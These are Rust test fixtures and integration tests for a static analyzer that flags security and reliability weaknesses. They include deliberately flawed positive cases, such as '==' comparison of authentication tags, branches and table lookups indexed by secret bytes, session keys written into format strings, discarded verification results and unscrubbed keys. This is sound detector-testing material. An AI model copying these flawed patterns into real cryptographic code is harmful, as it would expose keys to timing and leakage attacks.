/// `Option::expect`.
pub struct MiniParser {
    pos: usize,
}

impl MiniParser {
    /// Consumes one expected byte.
    pub fn expect(&mut self, _b: u8) -> Result<(), ()> {
        self.pos += 1;
        Ok(())
    }

    /// R1 negative: calling the look-alike method.
    pub fn parse(&mut self) -> Result<(), ()> {
        self.expect(b':')
    }
}

/// R1 negative: a `panic` path segment is not the `panic!` macro.
pub fn catches() -> bool {
    std::panic::catch_unwind(|| 1).is_ok()
}

/// R7 positive: raw OS timing in library code outside the telemetry
/// clock abstraction.
pub fn raw_timing() -> std::time::Instant {
    std::time::Instant::now()
}

/// R7 negative: `Instant` in type position without a `::now` call.
pub fn instant_passthrough(epoch: std::time::Instant) -> std::time::Instant {
    epoch
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn unwrap_is_fine_in_tests() {
        assert_eq!(lib_unwrap(Some(3)), 3);
        assert_eq!(Some(1).unwrap(), 1);
    }

    #[test]
    fn timing_is_fine_in_tests() {
        let _ = std::time::Instant::now();
    }
}
