//! R9 fixture module: security-critical `Result`s discarded.
//!
//! Expected findings: two R9 — `check_and_ignore` (`let _ =` binding)
//! and `install_and_drop` (bare statement). Propagating the `Result`
//! and discarding a non-security `Result` must stay silent.

/// R9 positive: the verification verdict is bound to `_` and lost.
pub fn check_and_ignore(confirm: &[u8]) {
    let _ = verify_peer(confirm);
}

/// R9 positive: the installation outcome is dropped on the floor.
pub fn install_and_drop(material: &[u8]) {
    install_key(material);
}

/// R9 negative: the `Result` is handed to the caller.
pub fn check_properly(confirm: &[u8]) -> Result<(), HandshakeError> {
    verify_peer(confirm)
}

/// R9 negative: a non-security crate's `Result` may be discarded.
pub fn tidy() {
    let _ = cleanup();
}

/// Local, non-security helper returning a `Result`.
fn cleanup() -> Result<(), ()> {
    Ok(())
}
