//! R5 fixture hot path (`crypto/gcm.rs` is in the R5 scope table).
//!
//! Expected findings: one R5 (in `unguarded_block`). The guarded and
//! literal-bounded accesses must stay silent.

/// R5 positive: dynamic index with no preceding bounds guard.
pub fn unguarded_block(buf: &[u8], i: usize) -> u8 {
    buf[i]
}

/// R5 negative: a `len()` guard dominates the access.
pub fn guarded_block(buf: &[u8], i: usize) -> u8 {
    if i < buf.len() {
        buf[i]
    } else {
        0
    }
}

/// R5 negative: literal-range loop variables are statically bounded.
pub fn rotate_state(state: &mut [u8; 16]) {
    for r in 1..4 {
        state[r] = state[r + 4];
    }
}
