//! R5 fixture hot path (`crypto/gcm.rs` is in the R5 scope table).
//!
//! Expected findings: one R5 (in `unguarded_block`). The guarded and
//! literal-bounded accesses must stay silent.

/// R5 positive: dynamic index with no preceding bounds guard.
pub fn unguarded_block(buf: &[u8], i: usize) -> u8 {
    buf[i]
}

/// R5 negative: a `len()` guard dominates the access.
pub fn guarded_block(buf: &[u8], i: usize) -> u8 {
    if i < buf.len() {
        buf[i]
    } else {
        0
    }
}

/// R5 negative: literal-range loop variables are statically bounded.
pub fn rotate_state(state: &mut [u8; 16]) {
    for r in 1..4 {
        state[r] = state[r + 4];
    }
}

/// R5 negative (dataflow discharge): the loop bound `BLK` equals the
/// array length of both operands.
pub fn xor_fixed(acc: &mut [u8; BLK], add: &[u8; BLK]) {
    for i in 0..BLK {
        acc[i] ^= add[i];
    }
}

/// R5 negative (dataflow discharge): the index is masked below the
/// table length resolved through `table256`'s return type.
pub fn masked_lookup(x: usize) -> u8 {
    let t = table256();
    t[x & 0xff]
}

/// R5 negative (dataflow discharge): the sole caller guards the index
/// before delegating.
pub fn read_unchecked(buf: &[u8], i: usize) -> u8 {
    buf[i]
}

/// The one call site of `read_unchecked`: bounds-checked first.
pub fn read_guarded_call(buf: &[u8], i: usize) -> u8 {
    if i < buf.len() {
        read_unchecked(buf, i)
    } else {
        0
    }
}
