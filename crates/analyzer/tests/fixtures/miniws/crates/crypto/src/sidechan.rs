//! Side-channel fixture corpus: R10/R11/R12 positives and negatives.
//!
//! Expected findings: four R10 (`b_if`, `b_match`, `b_while`, the
//! interprocedural `hop_branch`), three R11 (`t_lookup`, `t_chain`,
//! `t_mix`), three R12 (`bias`, `residue`, `same_session`). Two more
//! would-be findings are suppressed in place with line-scoped
//! `allow(...)` comments (`key_dispatch`, `sbox_probe`) and must be
//! counted in the report's `allowed` field, not its findings.

/// Lookup tables for the R11 fixtures.
static TABLE: [u8; 256] = [0; 256];
static SBOX: [u8; 256] = [0; 256];

/// A secret-bearing type for the typed-comparison R12 positive: the
/// field and parameter names below are deliberately neutral.
pub struct SessionSecret(pub u64);

/// R10 positive: `if` on a secret byte.
pub fn b_if(key: &[u8]) -> u8 {
    if key[0] > 7 {
        1
    } else {
        0
    }
}

/// R10 positive: `match` on a secret byte.
pub fn b_match(tag: &[u8]) -> u8 {
    match tag[0] {
        0 => 1,
        _ => 0,
    }
}

/// R10 positive: `while` on a secret-derived local.
pub fn b_while(mac: &[u8]) -> u8 {
    let m = mac[0];
    let mut x = 0;
    while m > x {
        x += 1;
    }
    x
}

/// Helper for the interprocedural R10: branches on a neutral-named
/// parameter, so it is silent on its own.
fn select_path(k: u8, limit: u8) -> u8 {
    if k > limit {
        1
    } else {
        0
    }
}

/// R10 positive (one hop): a secret-derived value is passed into the
/// branching parameter of `select_path`.
pub fn hop_branch(key: &[u8]) -> u8 {
    let k0 = key[0];
    select_path(k0, 3)
}

/// R11 positive: a secret drives the table index directly.
pub fn t_lookup(key: &[u8]) -> u8 {
    TABLE[key[0] as usize]
}

/// R11 positive: the index flows through a `let` binding.
pub fn t_chain(key: &[u8], i: usize) -> u8 {
    let b = key[i];
    TABLE[b as usize]
}

/// R11 positive: the index is a secret-derived expression.
pub fn t_mix(mac: &[u8], m: u8) -> u8 {
    let x = mac[0];
    TABLE[(x ^ m) as usize]
}

/// R12 positive: division latency depends on the secret dividend.
pub fn bias(key: &[u8]) -> u8 {
    key[0] / 29
}

/// R12 positive: remainder on a secret byte.
pub fn residue(icv: &[u8]) -> u8 {
    icv[1] % 13
}

/// R12 positive: derived `==` on secret-*typed* values — the neutral
/// names put this outside R2's name heuristic.
pub fn same_session(a: &SessionSecret, b: &SessionSecret) -> bool {
    a == b
}

/// R10 negative: `.len()` projects a public size off the secret.
pub fn n_len_branch(key: &[u8]) -> u8 {
    if key.len() < 32 {
        1
    } else {
        0
    }
}

/// R10/R12 negative: secrets compared through the constant-time
/// comparator — call arguments never count as condition reads.
pub fn n_ct_eq(tag: &[u8], expect: &[u8]) -> bool {
    if ct::eq(tag, expect) {
        true
    } else {
        false
    }
}

/// R10 negative: a public loop bound.
pub fn n_public_branch(i: usize, n: usize) -> u8 {
    if i < n {
        1
    } else {
        0
    }
}

/// R10 negative by annotation: the first byte of an encoded key names
/// its *public* format, and the dispatch is deliberate.
pub fn key_dispatch(key: &[u8]) -> u8 {
    // genio-analyzer: allow(R10, reason = "dispatch on the public key-format prefix byte")
    if key[0] > 0x7f {
        1
    } else {
        0
    }
}

/// R11 negative: a literal index exposes no secret-dependent address.
pub fn n_first(key: &[u8]) -> u8 {
    key[0]
}

/// R11 negative: a public index into a public table.
pub fn n_public_index(i: usize) -> u8 {
    TABLE[i & 0xff]
}

/// R11 negative: the index is public even though a secret is indexed.
pub fn n_secret_base(key: &[u8], i: usize) -> u8 {
    key[i]
}

/// R11 negative by annotation: table-driven AES kept on purpose.
pub fn sbox_probe(key: &[u8]) -> u8 {
    SBOX[key[2] as usize] // genio-analyzer: allow(R11, reason = "table-driven AES S-box fixture, masked upstream")
}

/// R12 negative: `.len()` is public, so the division is fine.
pub fn n_chunks(key: &[u8]) -> usize {
    key.len() / 16
}

/// R12 negative: modulo on a public counter.
pub fn n_wrap(i: usize) -> usize {
    i % 7
}

/// R12 negative: the constant-time accumulate idiom — xor and or only.
pub fn n_xor_fold(tag: &[u8], other: &[u8]) -> u8 {
    let mut d = 0;
    let mut i = 0;
    while i < tag.len() {
        d |= tag[i] ^ other[i];
        i += 1;
    }
    d
}

/// R12 negative: a widened copy of a *public* length.
pub fn n_len_mod(key: &[u8], stride: usize) -> usize {
    let n = key.len();
    n % stride
}

/// R11 negative: the windowed-GHASH idiom of `genio_crypto::ghash` — the
/// table *contents* were derived from the key at construction, but every
/// lookup is indexed by a byte of the running (AAD/ciphertext-derived)
/// state, so no key byte ever reaches an index expression.
pub fn n_ghash_row(state: &[u8; 16], data: u8) -> u8 {
    TABLE[(state[0] ^ data) as usize & 0xff]
}

/// R11 negative: the interleaved T-table CTR idiom — the round input is a
/// masked byte of the public counter block, never key material.
pub fn n_ttable_round(counter: u32) -> u8 {
    TABLE[(counter >> 24) as usize & 0xff]
}
