//! R2 fixture crate root: secret comparisons in a `crypto` crate.
//!
//! Expected findings: one R2 (in `bad_tag_check`). The length check and
//! the neutral comparison must stay silent.

#![forbid(unsafe_code)]

pub mod gcm;
pub mod hotpath;
pub mod sidechan;

/// R2 positive: comparing an authentication tag with `==`.
pub fn bad_tag_check(tag: &[u8], expected_tag: &[u8]) -> bool {
    tag == expected_tag
}

/// R2 negative: `.len()` projects a public size.
pub fn key_length_ok(key: &[u8]) -> bool {
    key.len() == 32
}

/// R2 negative: neutral identifiers carry no secret segment.
pub fn counters_match(a: u64, b: u64) -> bool {
    a == b
}

/// Block width used by the dataflow-discharge fixtures in `gcm.rs`.
pub const BLK: usize = 16;

/// Static substitution table for the mask-discharge fixture.
pub fn table256() -> &'static [u8; 256] {
    &TABLE
}

static TABLE: [u8; 256] = [0; 256];
