//! R16 fixture module: panic sites on the declared hot-path closure.
//!
//! Expected findings: two R16 — the unwrap in `stage_block` (one call
//! hop from the `seal_many` entry) and the unguarded index in
//! `tail_byte` (reached from `open_many`; this file is not on the R5
//! hot-path list, so R16 owns the site). The dominated unwrap inside
//! `open_many` and the expect in `cold_start` (no hot entry reaches it)
//! must stay silent under R16 — every abort site still surfaces as
//! flat R1, which is exactly the v3/v4 layering the corpus pins.

/// Hot entry: batch sealer. Panics one call hop down.
pub fn seal_many(blocks: &[Option<u8>]) -> u8 {
    let mut acc = 0;
    for b in blocks {
        acc ^= stage_block(*b);
    }
    acc
}

/// R16 positive: reachable unwrap with no dominating `is_some` guard.
fn stage_block(block: Option<u8>) -> u8 {
    block.unwrap()
}

/// Hot entry: batch opener. Its own unwrap is dominated by the
/// `is_some` check — discharged path-sensitively, R1 still flags it.
pub fn open_many(block: Option<u8>, tail: &[u8], at: usize) -> u8 {
    if block.is_some() {
        block.unwrap() ^ tail_byte(tail, at)
    } else {
        0
    }
}

/// R16 positive: unguarded dynamic index reachable from `open_many`.
fn tail_byte(tail: &[u8], at: usize) -> u8 {
    tail[at]
}

/// R16 negative: no hot entry reaches this setup helper.
pub fn cold_start(seed: Option<u8>) -> u8 {
    seed.expect("seed required")
}
