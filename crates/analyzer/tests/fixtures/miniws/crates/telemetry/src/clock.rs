//! R7 negative file: `telemetry/clock.rs` is allowlisted — this is the
//! abstraction every other crate must route timing through.

use std::time::Instant;

/// Minimal monotonic clock.
pub struct MiniClock {
    epoch: Instant,
}

impl MiniClock {
    /// R7 negative: `Instant::now()` is permitted here, and only here.
    pub fn manual_clock() -> MiniClock {
        MiniClock { epoch: Instant::now() }
    }

    /// Nanoseconds since the epoch.
    pub fn now_ns(&self) -> u64 {
        self.epoch.elapsed().as_nanos() as u64
    }
}
