//! R7 fixture crate root: the telemetry clock abstraction is the one
//! place allowed to read the OS clock, so nothing in this file or in
//! `clock.rs` may be flagged.

#![forbid(unsafe_code)]

pub mod clock;
pub mod spans;

/// R7 negative: time obtained through the clock abstraction.
pub fn through_the_clock(c: &clock::MiniClock) -> u64 {
    c.now_ns()
}
