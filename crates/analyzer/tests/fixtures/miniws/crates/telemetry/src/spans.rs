//! R15 fixture: span guards dropped at their creation site (flagged)
//! next to guards deliberately bound, consumed or returned (silent).

/// RAII span guard stand-in: its `Drop` records the elapsed time, so a
/// guard that dies at the creation site times nothing.
pub struct Span;

impl Drop for Span {
    fn drop(&mut self) {}
}

/// Telemetry handle stand-in.
pub struct Tele;

impl Tele {
    pub fn span(&self, _name: &'static str) -> Span {
        Span
    }

    pub fn span_at(&self, _name: &'static str, _ctx: u64) -> Span {
        Span
    }
}

fn busy() {}

/// R15 positive: `let _ =` drops the guard before `busy` runs.
pub fn tp_let_underscore(t: &Tele) {
    let _ = t.span("ingest.frame");
    busy();
}

/// R15 positive: a bare statement drops the guard at the `;`.
pub fn tp_bare_call(t: &Tele) {
    t.span_at("ingest.batch", 7);
    busy();
}

/// R15 positive: an unbound macro invocation drops the guard too.
pub fn tp_bare_macro(t: &Tele) {
    span!(t, "ingest.cycle");
    busy();
}

/// R15 negative: a named binding (even `_`-prefixed) lives to end of
/// scope and times `busy`.
pub fn ok_bound_guard(t: &Tele) {
    let _guard_span = t.span("ok.bound");
    busy();
}

/// R15 negative: a tail-position guard is returned to the caller.
pub fn ok_tail_expression(t: &Tele) -> Span {
    t.span("ok.tail")
}

/// R15 negative: a guard consumed by an enclosing expression is a
/// deliberate immediate drop.
pub fn ok_consumed(t: &Tele) {
    drop(t.span("ok.consumed"));
}

/// R15 negative: assigned to a place that outlives the statement.
pub fn ok_assigned(t: &Tele, slot: &mut Option<Span>) {
    *slot = Some(t.span_at("ok.assigned", 1));
    busy();
}
