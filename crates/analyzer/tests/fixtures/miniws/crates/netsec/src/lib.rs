//! R3 fixture crate root: deliberately missing `#![forbid(unsafe_code)]`.
//!
//! Expected findings: one R3 against this file.

pub mod handshake;
pub mod session;

/// Harmless content; the finding is about the missing crate attribute.
pub fn channel_id(node: u64) -> u64 {
    node.rotate_left(8)
}
