//! R8/R9 fixture module: secret material flowing into format sinks,
//! and security-critical `Result`s for the discard fixtures in `demo`.
//!
//! Expected findings: three R8 — `leak_direct` (inline capture of a
//! secret-typed parameter), `describe_key` (the helper sinks its own
//! parameter) and `leak_via_hop` (the secret crosses one bare-argument
//! call hop into that helper). The projections and the sink-free helper
//! must stay silent; the `Result`-returning functions feed the R9
//! positives in `demo/src/ops.rs`.

/// Session key material — a nominal secret type (`Key` segment).
pub struct SessionKey {
    bytes: [u8; 32],
}

/// Handshake failure modes.
pub enum HandshakeError {
    /// The peer's confirmation value did not check out.
    BadConfirm,
    /// Not enough key material supplied.
    ShortMaterial,
}

/// R8 positive (direct): Debug-formats the key itself.
pub fn leak_direct(session_key: &SessionKey) -> String {
    format!("negotiated {session_key:?}")
}

/// R8 positive (direct): the helper sinks its own parameter.
pub fn describe_key(key: &SessionKey) -> String {
    format!("debug dump: {key:?}")
}

/// R8 positive (one hop): the secret crosses a bare-argument call into
/// a function whose parameter is known to reach a sink.
pub fn leak_via_hop(session: &SessionKey) -> String {
    let report = describe_key(session);
    report
}

/// R8 negative: only a public projection (the length) is formatted.
pub fn key_len_log(key: &SessionKey) -> String {
    let n = key.bytes.len();
    format!("key bytes: {n}")
}

/// R8 negative: the callee never sinks its parameter.
pub fn seal_with(key: &SessionKey, salt: u8) -> u8 {
    mix(key, salt)
}

/// Sink-free helper: combines without formatting anything.
pub fn mix(key: &SessionKey, salt: u8) -> u8 {
    key.bytes[0] ^ salt
}

/// Verifies the peer's confirmation value. Callers must consume the
/// verdict — discarding it is exactly what R9 flags.
pub fn verify_peer(confirm: &[u8]) -> Result<(), HandshakeError> {
    if confirm.is_empty() {
        return Err(HandshakeError::BadConfirm);
    }
    Ok(())
}

/// Installs negotiated key material into a [`SessionKey`].
pub fn install_key(material: &[u8]) -> Result<SessionKey, HandshakeError> {
    if material.len() < 32 {
        return Err(HandshakeError::ShortMaterial);
    }
    let mut bytes = [0u8; 32];
    for (dst, src) in bytes.iter_mut().zip(material) {
        *dst = *src;
    }
    Ok(SessionKey { bytes })
}
