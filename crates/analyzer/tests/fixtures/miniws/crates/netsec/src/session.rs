//! R17 fixture module: secret-lifecycle invariants over [`SessionKey`].
//!
//! Expected findings: two R17 — `retain_key` (the key escapes into a
//! long-lived cache via `.push(..)`) and `close_link` (a teardown
//! returns without scrubbing the key it owns). The scrubbed teardown
//! and the public counter push must stay silent.

use crate::handshake::SessionKey;

/// R17 positive: the session key escapes its scope into a collection.
pub fn retain_key(cache: &mut Vec<SessionKey>, key: SessionKey) {
    cache.push(key);
}

/// R17 positive: a teardown that never zeroizes the key it consumes.
pub fn close_link(key: SessionKey) {
    announce_close();
}

/// Neutral helper so the teardown has a body without a scrub call.
fn announce_close() {}

/// R17 negative: the teardown scrubs the key before returning.
pub fn retire_session(mut key: SessionKey) {
    key.fill(0);
}

/// R17 negative: public counters may live in collections.
pub fn retain_stats(stats: &mut Vec<u64>, frames: u64) {
    stats.push(frames);
}
