//! Integration tests: drive `workspace::scan` over the committed fixture
//! corpus (`tests/fixtures/miniws`), a miniature workspace tree with one
//! known-positive and at least one known-negative snippet per rule.

use std::path::{Path, PathBuf};

use genio_analyzer::rules::Rule;
use genio_analyzer::workspace;

fn fixture_root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/miniws")
}

#[test]
fn fixture_tree_is_a_workspace_root() {
    let root = fixture_root();
    assert_eq!(
        workspace::find_root(&root.join("crates/demo/src")),
        Some(root)
    );
}

#[test]
fn per_rule_counts_match_the_corpus() {
    let report = workspace::scan(&fixture_root()).expect("fixture scan");
    let counts: Vec<(Rule, usize)> = report.rule_counts();
    let count = |r: Rule| counts.iter().find(|&&(cr, _)| cr == r).map_or(0, |&(_, n)| n);

    assert_eq!(count(Rule::R1PanicPath), 6, "demo trio + hotpath trio");
    assert_eq!(count(Rule::R2NonCtCompare), 1, "tag == expected_tag");
    assert_eq!(count(Rule::R3MissingForbid), 1, "netsec crate root");
    assert_eq!(count(Rule::R4NarrowingCast), 1, "sci as u16");
    assert_eq!(count(Rule::R5UnguardedIndex), 2, "gcm.rs + frame.rs");
    assert_eq!(count(Rule::R6DebtMarker), 1, "one to-do comment");
    assert_eq!(count(Rule::R7RawTiming), 1, "raw Instant::now in demo");
    assert_eq!(count(Rule::R8SecretLeak), 3, "two direct leaks + one hop");
    assert_eq!(count(Rule::R9DiscardedResult), 2, "let _ + bare statement");
    assert_eq!(count(Rule::R10SecretBranch), 4, "if + match + while + one hop");
    assert_eq!(count(Rule::R11SecretIndex), 3, "direct + let-chained + mixed");
    assert_eq!(count(Rule::R12VariableTimeOp), 3, "div + mod + typed eq");
    assert_eq!(count(Rule::R13LockOrderCycle), 4, "ab/ba pair + via-call pair");
    assert_eq!(count(Rule::R14RelaxedSyncFlag), 2, "relaxed store + spin load");
    assert_eq!(count(Rule::R15DroppedSpan), 3, "let _ + bare call + bare macro");
    assert_eq!(count(Rule::R16PanicReachable), 2, "hotpath unwrap + index");
    assert_eq!(count(Rule::R17SecretLifecycle), 2, "escape + unscrubbed teardown");
    assert_eq!(report.findings.len(), 41);
    // The dataflow pass discharges the provably bounded R4/R5 sites:
    // xor_fixed (2 accesses), masked_lookup, read_unchecked, narrow_fixed.
    assert_eq!(report.suppressed, 5, "interprocedurally discharged sites");
    // The two `allow(...)` comments in sidechan.rs suppress exactly one
    // R10 and one R11, visibly.
    assert_eq!(report.allowed, 2, "annotated suppressions are counted");
}

#[test]
fn positives_name_their_functions() {
    let report = workspace::scan(&fixture_root()).expect("fixture scan");
    let has = |rule: Rule, function: &str| {
        report
            .findings
            .iter()
            .any(|f| f.rule == rule && f.function == function)
    };
    assert!(has(Rule::R1PanicPath, "lib_unwrap"));
    assert!(has(Rule::R1PanicPath, "lib_expect"));
    assert!(has(Rule::R1PanicPath, "lib_panic"));
    assert!(has(Rule::R2NonCtCompare, "bad_tag_check"));
    assert!(has(Rule::R4NarrowingCast, "narrow_sci"));
    assert!(has(Rule::R5UnguardedIndex, "unguarded_block"));
    assert!(has(Rule::R5UnguardedIndex, "read_field"));
    assert!(has(Rule::R7RawTiming, "raw_timing"));
    assert!(has(Rule::R8SecretLeak, "leak_direct"));
    assert!(has(Rule::R8SecretLeak, "describe_key"));
    assert!(has(Rule::R8SecretLeak, "leak_via_hop"));
    assert!(has(Rule::R9DiscardedResult, "check_and_ignore"));
    assert!(has(Rule::R9DiscardedResult, "install_and_drop"));
    assert!(has(Rule::R10SecretBranch, "b_if"));
    assert!(has(Rule::R10SecretBranch, "b_match"));
    assert!(has(Rule::R10SecretBranch, "b_while"));
    assert!(has(Rule::R10SecretBranch, "hop_branch"));
    assert!(has(Rule::R11SecretIndex, "t_lookup"));
    assert!(has(Rule::R11SecretIndex, "t_chain"));
    assert!(has(Rule::R11SecretIndex, "t_mix"));
    assert!(has(Rule::R12VariableTimeOp, "bias"));
    assert!(has(Rule::R12VariableTimeOp, "residue"));
    assert!(has(Rule::R12VariableTimeOp, "same_session"));
    assert!(has(Rule::R13LockOrderCycle, "ab_order"));
    assert!(has(Rule::R13LockOrderCycle, "ba_order"));
    assert!(has(Rule::R13LockOrderCycle, "via_call"));
    assert!(has(Rule::R13LockOrderCycle, "dc_order"));
    assert!(has(Rule::R14RelaxedSyncFlag, "publish_ready"));
    assert!(has(Rule::R14RelaxedSyncFlag, "spin_wait"));
    assert!(has(Rule::R15DroppedSpan, "tp_let_underscore"));
    assert!(has(Rule::R15DroppedSpan, "tp_bare_call"));
    assert!(has(Rule::R15DroppedSpan, "tp_bare_macro"));
    assert!(has(Rule::R16PanicReachable, "stage_block"));
    assert!(has(Rule::R16PanicReachable, "tail_byte"));
    assert!(has(Rule::R17SecretLifecycle, "retain_key"));
    assert!(has(Rule::R17SecretLifecycle, "close_link"));
}

#[test]
fn negatives_stay_silent() {
    let report = workspace::scan(&fixture_root()).expect("fixture scan");
    for quiet in [
        "parse",          // look-alike `self.expect(b':')`
        "catches",        // std::panic:: path segment
        "key_length_ok",  // public length comparison
        "counters_match", // no secret segment
        "widen",          // widening cast
        "literal_cast",   // literal cast subject
        "guarded_block",  // guard dominates
        "read_checked",   // .get() access
        "rotate_state",   // literal-range loop variable
        "instant_passthrough", // Instant in type position, no ::now call
        "manual_clock",   // Instant::now inside the allowlisted clock.rs
        "through_the_clock", // timing routed through the abstraction
        "key_len_log",    // only the length is formatted
        "seal_with",      // callee never sinks its parameter
        "mix",            // sink-free helper
        "check_properly", // Result propagated, not discarded
        "tidy",           // non-security Result discarded
        "xor_fixed",      // loop bound == array length (dataflow)
        "masked_lookup",  // mask below table length (dataflow)
        "read_unchecked", // every caller guards the index (dataflow)
        "read_guarded_call", // the guarding caller itself
        "narrow_fixed",   // every caller passes a literal (dataflow)
        "default_port",   // the literal-passing caller itself
        "select_path",    // neutral-named branching helper (the hop target)
        "n_len_branch",   // .len() projection in a condition
        "n_ct_eq",        // ct::eq call arguments are not condition reads
        "n_public_branch", // public loop bound
        "key_dispatch",   // allow(R10) annotated dispatch
        "n_first",        // literal index
        "n_public_index", // public index into a public table
        "n_secret_base",  // public index into a secret slice
        "sbox_probe",     // allow(R11) annotated table lookup
        "n_chunks",       // .len() division
        "n_wrap",         // public modulo
        "n_xor_fold",     // constant-time accumulate idiom
        "n_len_mod",      // modulo on a copied public length
        "n_ghash_row",    // key-built table, data-derived index (GHASH idiom)
        "n_ttable_round", // masked public counter byte into a table (CTR idiom)
        "grab_d",         // single acquisition, no cycle on its own
        "consistent_one", // canonical e-before-f order
        "consistent_two", // canonical order again
        "scoped_release", // guard dies with its block
        "dropped_release", // guard dropped explicitly
        "bump",           // pure Relaxed counter
        "snapshot_hits",  // counter read outside any condition
        "done_yet",       // Acquire read in the condition
        "finish",         // Release publish
        "ok_bound_guard", // named binding lives to end of scope
        "ok_tail_expression", // guard returned to the caller
        "ok_consumed",    // guard consumed by drop(..)
        "ok_assigned",    // guard stored in an outliving place
        "retire_session", // teardown scrubs with fill(0)
        "retain_stats",   // public counters may live in collections
        "announce_close", // neutral helper in the teardown fixture
    ] {
        assert!(
            !report.findings.iter().any(|f| f.function == quiet),
            "negative fixture {quiet:?} was flagged"
        );
    }
    // The #[cfg(test)] module in demo contributes nothing.
    assert!(!report
        .findings
        .iter()
        .any(|f| f.function == "unwrap_is_fine_in_tests"));
    // R16 negatives keep their flat R1 finding but must not appear in
    // the reachability closure: `open_many`'s unwrap is dominated by
    // its is_some guard, and nothing hot reaches `cold_start`.
    for discharged in ["open_many", "cold_start"] {
        assert!(
            !report
                .findings
                .iter()
                .any(|f| f.rule == Rule::R16PanicReachable && f.function == discharged),
            "R16 must discharge {discharged:?}"
        );
    }
}

#[test]
fn r4_r5_findings_carry_bridge_confirmation() {
    let report = workspace::scan(&fixture_root()).expect("fixture scan");
    for f in &report.findings {
        match f.rule {
            Rule::R4NarrowingCast | Rule::R5UnguardedIndex => {
                assert_eq!(
                    f.confirmed,
                    Some(true),
                    "taint bridge should confirm {}:{}",
                    f.file,
                    f.line
                );
            }
            Rule::R8SecretLeak
            | Rule::R9DiscardedResult
            | Rule::R10SecretBranch
            | Rule::R11SecretIndex
            | Rule::R12VariableTimeOp
            | Rule::R13LockOrderCycle
            | Rule::R14RelaxedSyncFlag
            | Rule::R16PanicReachable
            | Rule::R17SecretLifecycle => {
                assert_eq!(
                    f.confirmed,
                    Some(true),
                    "flow findings are confirmed by construction {}:{}",
                    f.file,
                    f.line
                );
            }
            _ => assert_eq!(f.confirmed, None),
        }
    }
}
