//! End-to-end SARIF gate: run the real binary with `--sarif` over the
//! miniws fixture corpus and validate the written document with the
//! testkit JSON parser. `scripts/verify.sh` runs this test after the
//! diff-determinism gate.

use std::path::{Path, PathBuf};
use std::process::Command;

use genio_testkit::json::{parse, Value};

fn fixture_root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/miniws")
}

#[test]
fn sarif_export_reparses_and_carries_every_fixture_finding() {
    let out_path = std::env::temp_dir()
        .join("genio-analyzer-tests")
        .join("miniws.sarif");
    std::fs::create_dir_all(out_path.parent().unwrap()).expect("mkdir");
    let _ = std::fs::remove_file(&out_path);

    let out = Command::new(env!("CARGO_BIN_EXE_genio-analyzer"))
        .args([
            "--root",
            &fixture_root().display().to_string(),
            "--no-cache",
            "--baseline",
            "/dev/null",
            "--sarif",
            &out_path.display().to_string(),
        ])
        .output()
        .expect("spawn genio-analyzer");
    // The fixture scan exits 1 (findings vs an empty baseline); the
    // export must be written regardless.
    assert!(out.status.code().is_some(), "analyzer must not be killed");

    let text = std::fs::read_to_string(&out_path).expect("SARIF file written");
    let v = parse(&text).expect("SARIF re-parses with the testkit parser");
    assert_eq!(v.get("version").and_then(Value::as_str), Some("2.1.0"));
    let runs = v.get("runs").and_then(Value::as_arr).expect("runs array");
    assert_eq!(runs.len(), 1);
    assert_eq!(
        runs[0]
            .get("tool")
            .and_then(|t| t.get("driver"))
            .and_then(|d| d.get("name"))
            .and_then(Value::as_str),
        Some("genio-analyzer")
    );
    assert_eq!(
        runs[0]
            .get("properties")
            .and_then(|p| p.get("exportSchema"))
            .and_then(Value::as_str),
        Some(genio_analyzer::diff::SARIF_SCHEMA)
    );

    // Every result is well-formed: a known ruleId, a message, a
    // physical location with a line.
    let results = runs[0].get("results").and_then(Value::as_arr).expect("results");
    assert!(!results.is_empty(), "the fixture corpus has findings");
    for r in results {
        let id = r.get("ruleId").and_then(Value::as_str).expect("ruleId");
        assert!(
            genio_analyzer::rules::Rule::from_id(id).is_some(),
            "unknown ruleId {id:?}"
        );
        assert!(r
            .get("message")
            .and_then(|m| m.get("text"))
            .and_then(Value::as_str)
            .is_some_and(|t| !t.is_empty()));
        let loc = r.get("locations").and_then(Value::as_arr).expect("locations")[0]
            .get("physicalLocation")
            .expect("physicalLocation");
        assert!(loc
            .get("artifactLocation")
            .and_then(|a| a.get("uri"))
            .and_then(Value::as_str)
            .is_some_and(|u| u.ends_with(".rs")));
        assert!(loc
            .get("region")
            .and_then(|g| g.get("startLine"))
            .and_then(Value::as_f64)
            .is_some_and(|l| l >= 1.0));
    }

    // The fixture corpus pins 41 findings; the export carries them all.
    assert_eq!(results.len(), 41, "one result per fixture finding");
}
