//! Differential gate for the in-memory base rebase: `rescan_with_base`
//! must produce a byte-identical report to `scan_with_base`, the
//! from-disk reference implementation, for every splice shape (modified,
//! added-since-base, deleted-since-base). This is what licenses `--diff`
//! to reuse the live scan's per-file facts instead of re-reading the
//! tree — per-file facts are purely local, and this test pins that.

use std::path::{Path, PathBuf};

use genio_analyzer::workspace::{
    rescan_with_base, scan_snapshot, scan_with_base, ScanOptions,
};

fn fixture_root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/miniws")
}

#[test]
fn rescan_with_base_matches_scan_with_base_byte_for_byte() {
    let root = fixture_root();
    let opts = ScanOptions::default();
    let (current, _, snapshot) = scan_snapshot(&root, &opts).expect("live scan");

    // A splice exercising all three shapes at once:
    //  - hotpath.rs modified since base (the base had one more unwrap),
    //  - session.rs added since base (absent from the base tree),
    //  - legacy.rs deleted since base (present only in the splice).
    let hotpath = std::fs::read_to_string(root.join("crates/crypto/src/hotpath.rs"))
        .expect("read fixture");
    let base_hotpath = format!(
        "{hotpath}\npub fn legacy_stage(b: Option<u8>) -> u8 {{\n    b.unwrap()\n}}\n"
    );
    let base: Vec<(String, Option<String>)> = vec![
        ("crates/crypto/src/hotpath.rs".to_string(), Some(base_hotpath)),
        ("crates/netsec/src/session.rs".to_string(), None),
        (
            "crates/crypto/src/legacy.rs".to_string(),
            Some("pub fn legacy(x: Option<u8>) -> u8 {\n    x.unwrap()\n}\n".to_string()),
        ),
    ];

    let (reference, _) = scan_with_base(&root, &opts, &base).expect("reference base scan");
    let rebased = rescan_with_base(&snapshot, &opts, &base);
    assert_eq!(
        reference.to_json().to_string(),
        rebased.to_json().to_string(),
        "in-memory rebase diverges from the from-disk base scan"
    );

    // Sanity: the splice actually changed the report, so the equality
    // above compared real work rather than two empty documents.
    assert_ne!(
        current.to_json().to_string(),
        rebased.to_json().to_string(),
